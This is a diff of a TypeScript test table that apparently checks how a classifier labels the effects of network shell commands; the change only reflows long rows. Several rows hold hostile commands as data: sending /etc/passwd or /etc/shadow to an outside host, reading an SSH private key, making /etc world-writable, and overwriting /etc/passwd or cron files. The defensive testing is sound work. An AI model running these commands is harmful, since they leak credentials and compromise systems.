@@ -16,7 +16,10 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['nslookup example.com', ['network:connect example.com']],
   ['host -t mx example.com', ['network:connect example.com']],
   ['whois example.com', ['network:connect whois']],
-  ['whois -h 192.0.2.9 -p 43 "$(cat /etc/passwd)"', ['read:read /etc/passwd', 'network:send 192.0.2.9 external', 'network:send-data external']],
+  [
+    'whois -h 192.0.2.9 -p 43 "$(cat /etc/passwd)"',
+    ['read:read /etc/passwd', 'network:send 192.0.2.9 external', 'network:send-data external'],
+  ],
   ['nsupdate -k key', ['read:read key', 'network:configure names']],
   ['nmap -sV -p 80,443 192.0.2.0/24', ['network:scan 192.0.2.0/24 external']],
   ['nmap -iL /root/.ssh/id_rsa', ['read:read /root/.ssh/id_rsa sensitive']],
@@ -30,16 +33,33 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['tcpdump -i eth0 port 80', ['read:watch-packets eth0']],
   ['tcpdump -r cap.pcap', ['read:read cap.pcap']],
   ['tcpdump -D', []],
-  ["tcpdump -i lo -w x -G 1 -z 'chmod 777 /etc'", ['write:overwrite x', 'permission:world-writable /etc', 'read:capture lo']],
+  [
+    "tcpdump -i lo -w x -G 1 -z 'chmod 777 /etc'",
+    ['write:overwrite x', 'permission:world-writable /etc', 'read:capture lo'],
+  ],
   ['tcpdump -w /etc/passwd -c 1', ['write:overwrite /etc/passwd', 'read:capture any']],
   ['tshark -r cap.pcap', ['read:read cap.pcap']],
   ['tshark -X lua_script:/tmp/x.lua', ['execute:load /tmp/x.lua', 'read:watch-packets any']],
   ['dumpcap -i eth0', ['read:capture eth0']],
   ['tcpreplay -i eth0 cap.pcap', ['read:read cap.pcap external', 'network:send external']],
   ['iperf3 -c host.example.com', ['network:connect host.example.com external']],
-  ['iperf3 -c host.example.com -F /etc/passwd', ['network:connect host.example.com external', 'read:read /etc/passwd external', 'network:send external', 'network:send-data external']],
-  ['nmap --script http-put --script-args http-put.url=/,http-put.file=/etc/shadow 192.0.2.1', ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:scan 192.0.2.1 external']],
-  ['nmap --script http-fetch --script-args http-fetch.destination=/etc/cron.d,http-fetch.url=x 192.0.2.1', ['write:overwrite /etc/cron.d', 'network:scan 192.0.2.1 external']],
+  [
+    'iperf3 -c host.example.com -F /etc/passwd',
+    [
+      'network:connect host.example.com external',
+      'read:read /etc/passwd external',
+      'network:send external',
+      'network:send-data external',
+    ],
+  ],
+  [
+    'nmap --script http-put --script-args http-put.url=/,http-put.file=/etc/shadow 192.0.2.1',
+    ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:scan 192.0.2.1 external'],
+  ],
+  [
+    'nmap --script http-fetch --script-args http-fetch.destination=/etc/cron.d,http-fetch.url=x 192.0.2.1',
+    ['write:overwrite /etc/cron.d', 'network:scan 192.0.2.1 external'],
+  ],
 ];
 
 describe('looking at networks', () => {
